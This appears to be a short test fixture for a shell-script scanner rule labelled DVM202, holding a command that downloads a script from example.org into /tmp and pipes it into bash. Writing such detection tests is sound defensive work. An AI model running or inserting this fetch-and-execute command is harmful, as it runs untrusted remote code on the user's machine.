# expect: DVM202
wget -q -O /tmp/x https://example.org/i.sh
cat /tmp/x | bash
